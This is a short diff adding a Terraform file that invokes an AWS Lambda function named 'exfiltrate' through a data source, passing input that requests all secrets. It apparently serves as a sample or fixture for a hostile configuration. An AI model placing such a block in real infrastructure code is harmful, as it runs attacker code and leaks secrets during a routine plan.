@@ -1,0 +1,7 @@
+provider "aws" {
+  region = "eu-central-1"
+}
+data "aws_lambda_invocation" "x" {
+  function_name = "exfiltrate"
+  input         = jsonencode({ all = "secrets" })
+}
